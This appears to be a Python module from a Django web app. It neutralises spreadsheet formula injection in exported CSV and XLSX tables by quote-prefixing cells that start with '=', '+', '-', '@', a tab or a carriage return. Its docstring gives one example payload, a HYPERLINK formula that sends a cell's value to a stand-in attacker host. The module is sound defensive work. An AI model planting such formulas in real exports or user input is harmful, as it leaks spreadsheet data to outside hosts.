"""Cells of the tables jaring hands out as CSV or XLSX: text stays text, numbers stay numbers.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (some also after a tab or a
carriage return) as a formula. Names, addresses, summaries and reasons are typed by people, through the
API, the desk and files, so a participant named ``=HYPERLINK("http://evil.example/?x="&B2, "Klik")``
would become a live link in the reader's spreadsheet. Every writer of a CSV or XLSX table puts its cells
through this module (docs/security.md, "Cells of exported tables"):

- CSV (``csv_cell``): such text gets a leading apostrophe (OWASP's advice), which spreadsheets show as
  text; a phone written ``+628123...`` reads ``'+628123...``.
- XLSX (``xlsx_append``): every text is a typed string cell, never a formula, and one that looks like a
  formula also carries the quote prefix Excel sets when a person types an apostrophe first, so editing the
  cell keeps it text; ``+628123...`` reads as it is.
- Numbers (``int``, ``float``, ``Decimal``) are never touched: a reversal's negative amount stays a
  number. Dates are written as dates (XLSX) or ISO days (CSV).
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = (int, float, Decimal)


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would run ``text`` as a formula if it were typed into a cell."""
    return text.startswith(FORMULA_STARTS)


def csv_cell(value) -> object:
    """``value`` as a CSV cell: None is empty, numbers and dates as they are, any other value as text,
    with a leading apostrophe when a spreadsheet would run it."""
    if value is None:
        return ""
    if isinstance(value, (*NUMBERS, date, time)):
        return value
    text = str(value)
    return f"'{text}" if looks_like_formula(text) else text


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


def xlsx_append(sheet, values: Iterable, *, dates: bool = True) -> int:
    """Appends ``values`` as the next row of the openpyxl ``sheet`` and answers its row number. Numbers
    stay numbers; text (and anything else, as its text) is a typed string cell, never a formula. With
    ``dates=False`` dates are written as their text, as a page shows them."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    row = []
    for value in values:
        if value is None or isinstance(value, NUMBERS) or (dates and isinstance(value, (date, time))):
            row.append(_naive(value))
        else:
            # control characters are not allowed in the file; openpyxl would refuse the whole export
            row.append(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
    sheet.append(row)
    number = sheet.max_row
    if not row:
        return number
    for cell in sheet[number]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if looks_like_formula(cell.value):
                cell.quotePrefix = True
    return number


def _naive(value):
    """openpyxl refuses aware datetimes: they are written in Jakarta's wall time."""
    if isinstance(value, datetime) and value.tzinfo is not None:
        from django.utils import timezone

        return timezone.localtime(value).replace(tzinfo=None)
    return value
